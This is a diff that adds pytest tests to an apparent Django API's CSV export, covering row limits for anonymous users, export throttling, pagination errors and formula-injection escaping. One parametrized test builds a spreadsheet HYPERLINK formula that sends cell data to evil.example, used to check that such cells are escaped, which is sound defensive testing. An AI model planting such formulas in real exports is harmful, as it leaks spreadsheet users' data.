@@ -201,3 +201,48 @@ def test_new_statement_appears_in_export(api_client, data):
     add_statement(data.two, "Ministers gathered", speaker=data.graham, paragraph=0)
     texts = [row["text"] for row in csv_rows(api_client.get("/api/statements/?format=csv&article=" + str(data.two.pk)))]
     assert texts == ["Ministers gathered", "The alliance is stronger than ever"]
+
+
+# Limits and safety of the export ----------------------------------------------------------------------------------
+
+
+def test_an_anonymous_export_over_the_row_limit_is_refused(api_client, data, curator, settings):
+    settings.API_CSV_ANON_MAX_ROWS = 3
+    response = api_client.get("/api/statements/?format=csv")
+    assert response.status_code == 400
+    assert response["Content-Type"] == "application/json"
+    assert "More than 3 statements match: an anonymous CSV export has at most 3 rows" in response.json()["format"][0]
+    assert len(csv_rows(api_client.get(f"/api/statements/?format=csv&speaker_id={data.jens.pk}"))) == 3
+    api_client.force_authenticate(curator)
+    assert len(csv_rows(api_client.get("/api/statements/?format=csv"))) == 5
+
+
+def test_exports_have_a_rate_of_their_own(api_client, data, settings):
+    rates = {"anon": "100/min", "user": None, "export": "2/hour"}
+    settings.REST_FRAMEWORK = {**settings.REST_FRAMEWORK, "DEFAULT_THROTTLE_RATES": rates}
+    statuses = [api_client.get("/api/statements/?format=csv").status_code for _ in range(3)]
+    assert statuses == [200, 200, 429]
+    # Pages, details and a single statement's CSV are not exports.
+    assert api_client.get("/api/statements/").status_code == 200
+    assert api_client.get(f"/api/statements/{data.talks.pk}/?format=csv").status_code == 200
+
+
+@pytest.mark.parametrize(
+    ("query", "parameter"),
+    [("page_size=0", "page_size"), ("page_size=abc", "page_size"), ("cursor=forged", "cursor")],
+)
+def test_bad_pagination_parameters_are_a_400_for_csv_too(api_client, data, query, parameter):
+    response = api_client.get(f"/api/statements/?format=csv&{query}")
+    assert response.status_code == 400
+    assert list(response.json()) == [parameter]
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_cells_a_spreadsheet_would_evaluate_are_escaped(api_client, data, start):
+    formula = f'{start}HYPERLINK("https://evil.example/?"&A1,"x")'
+    Statement.objects.filter(pk=data.member.pk).update(speaker_as_written=formula, cue=start + "said")
+    rows = csv_rows(api_client.get(f"/api/statements/{data.member.pk}/?format=csv"))
+    assert rows[0]["speaker_as_written"] == "'" + formula
+    assert rows[0]["cue"] == "'" + start + "said"
+    # Numbers and span ranges are not text to escape.
+    assert rows[0]["id"] == str(data.member.pk) and not rows[0]["spans"].startswith("'")
